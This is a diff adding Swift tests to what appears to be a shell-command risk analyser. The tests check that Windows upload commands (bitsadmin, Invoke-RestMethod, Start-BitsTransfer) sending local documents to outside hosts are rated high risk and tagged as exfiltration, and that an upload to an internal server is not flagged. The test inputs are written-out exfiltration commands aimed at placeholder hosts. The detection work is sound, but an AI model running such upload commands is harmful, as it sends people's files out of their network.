@@ -104,3 +104,22 @@ import Testing
         #expect(Destination.classify(host).kind == kind, "\(host)")
     }
 }
+
+/// Windows uploads judged by where the file goes.
+@Suite struct WindowsDataLeavingTests {
+    @Test(arguments: [
+        ("bitsadmin /transfer j /upload /priority high https://198.51.100.7/u D:\\Data\\roster.xlsx", ShellDialect.cmd),
+        ("Invoke-RestMethod -Uri https://203.0.113.9/u -Method Put -InFile C:\\Users\\ann\\Documents\\plan.docx", .powershell),
+        ("Start-BitsTransfer -TransferType Upload -Source D:\\Data\\x.bak -Destination https://files.example.org/x.bak", .powershell),
+    ])
+    func uploadsOutsideAreExfiltration(_ command: String, _ dialect: ShellDialect) throws {
+        let a = try Analyser.bundled().get().analyse(command, dialect: dialect)
+        #expect(a.risk >= .high, "`\(command)` was \(a.risk): \(a.summary)")
+        #expect(a.tactics.contains("TA0010"), "`\(command)`: \(a.tactics)")
+    }
+
+    @Test func anUploadInsideIsNot() throws {
+        let a = try Analyser.bundled().get().analyse("bitsadmin /transfer j /upload http://fileserver.corp.local/u D:\\Data\\x.txt", dialect: .cmd)
+        #expect(!a.findings.contains { $0.reason.contains("outside this network") }, "\(a.findings.map(\.reason))")
+    }
+}
